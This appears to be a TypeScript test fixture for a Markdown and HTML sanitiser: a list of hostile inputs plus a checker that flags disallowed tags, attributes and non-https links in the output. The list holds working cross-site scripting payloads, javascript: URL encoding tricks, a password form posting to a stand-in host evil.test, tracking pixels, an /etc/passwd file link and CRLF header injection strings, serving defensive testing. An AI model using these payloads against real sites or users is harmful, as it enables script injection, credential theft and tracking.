/** What someone may type, or paste, into a text that everybody will read. */
export const HOSTILE: readonly string[] = [
  // Elements that act.
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src='x' onerror=\"alert(1)\"//",
  "<svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<iframe src=https://evil.test></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=https://evil.test/x.swf></object>",
  "<embed src=https://evil.test>",
  "<form action=https://evil.test><input name=password><button>OK</button></form>",
  "<base href=https://evil.test/>",
  "<meta http-equiv=refresh content='0;url=https://evil.test'>",
  "<link rel=stylesheet href=https://evil.test/x.css>",
  "<style>body{display:none}</style>",
  "<style>@import 'https://evil.test/x.css';</style>",
  "<video autoplay onloadstart=alert(1)><source src=x></video>",
  "<audio src=https://evil.test/x.mp3 autoplay>",
  "<details open ontoggle=alert(1)>x</details>",
  "<marquee onstart=alert(1)>x</marquee>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<template><script>alert(1)</script></template>",
  "<!--><script>alert(1)</script-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
  // Attributes that act.
  "<a href=https://ok.test onclick=alert(1)>x</a>",
  "<p style='background:url(https://evil.test)'>x</p>",
  "<b onmouseover=alert(1)>x</b>",
  "<p id=main class=notice>x</p>",
  '[x](https://ok.test/"onmouseover="alert(1))',
  '[x](https://ok.test "t\\" onmouseover=\\"alert(1)")',
  "[x](https://ok.test 'title')",
  "[x](https://ok.test/'onmouseover='alert(1))",
  // Addresses that act, or are not what they seem.
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x]( javascript:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6a;&#x61;vascript:alert(1))",
  "[x](java%0ascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](blob:https://evil.test/1)",
  "[x](file:///etc/passwd)",
  "[x](ftp://evil.test/x)",
  "[x](http://clear.test/)",
  "[x](//evil.test/x)",
  "[x](/console/sign-out)",
  "[x](https:evil.test)",
  "[bank](https://bank.test@evil.test/)",
  "[bank](https://user:password@evil.test/)",
  "[x](mailto:a@b.test?bcc=everyone@b.test)",
  "[x](tel:+33899000000)",
  "<javascript:alert(1)>",
  "<https://bank.test@evil.test/>",
  "[x]: javascript:alert(1)\n\n[x]",
  "[x][y]\n\n[y]: data:text/html,boom 'title'",
  // What calls others as soon as it is looked at.
  "![pixel](https://evil.test/p.gif)",
  "![x](javascript:alert(1))",
  "[![x](https://evil.test/p.gif)](https://ok.test)",
  "![x][y]\n\n[y]: https://evil.test/p.gif",
  // What breaks out of where it is written.
  "</p></div></body></html><script>alert(1)</script>",
  "]]></content:encoded><script>alert(1)</script>",
  "`</code><script>alert(1)</script>`",
  "```html\n</code></pre><script>alert(1)</script>\n```",
  '```"><script>alert(1)</script>\nx\n```',
  "    <script>alert(1)</script>",
  "> <script>alert(1)</script>",
  "- <script>alert(1)</script>\n- [x](javascript:alert(1))",
  "# <script>alert(1)</script>",
  "| a |\n|---|\n| <script>alert(1)</script> |",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "\u2028<script>alert(1)</script>\u2029",
  "\u202e<script>alert(1)</script>",
  "\u0000<script>alert(1)</script>",
  "END:VEVENT\r\nBEGIN:VALARM\r\nACTION:AUDIO",
  "x\r\nBcc: everyone@b.test",
  "*".repeat(3_000),
  "[".repeat(3_000),
  ">".repeat(1_000) + "x",
  "![](".repeat(1_000),
];

const TAGS = new Set([
  "p",
  "br",
  "b",
  "strong",
  "em",
  "code",
  "pre",
  "ul",
  "ol",
  "li",
  "blockquote",
  "a",
]);

/** What stands in a piece of HTML that may not: tags, attributes, addresses. Empty is good. */
export function forbiddenIn(html: string, document: Document): string[] {
  document.body.innerHTML = html;
  return [...document.body.querySelectorAll("*")].flatMap((element) => {
    const tag = element.localName;
    const wrong = TAGS.has(tag) ? [] : [`<${tag}>`];
    for (const { name, value } of element.attributes) {
      const isLink = tag === "a" && name === "href";
      const isRel = tag === "a" && name === "rel";
      // Where a numbered list begins is no danger.
      const isStart = tag === "ol" && name === "start" && /^\d+$/.test(value);
      if (!isLink && !isRel && !isStart) wrong.push(`${tag}[${name}]`);
      if (isLink && !/^https:\/\/[^@]*$/.test(value)) wrong.push(`href=${value}`);
    }
    return wrong;
  });
}
